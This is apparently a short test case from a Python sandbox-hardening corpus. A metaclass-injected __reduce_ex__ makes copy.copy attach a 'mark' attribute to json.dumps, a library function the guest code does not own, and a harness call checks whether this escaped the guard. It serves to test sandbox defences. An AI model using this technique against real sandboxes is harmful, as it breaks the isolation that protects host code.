# technique: a namespace changed by the metaclass defines __reduce_ex__; copy sets its state on a library's function
# source: library reference, copy
# goal: change what the guest does not own
# impact: guard
import copy
import json


class Meta(type):
    def __new__(m, name, bases, namespace):
        namespace['__reduce_ex__'] = lambda self, protocol: ((lambda: json.dumps), (), {'mark': 1})
        return type.__new__(m, name, bases, namespace)


class Reduces(metaclass=Meta):
    pass


copy.copy(Reduces())
escaped(json.dumps.mark)
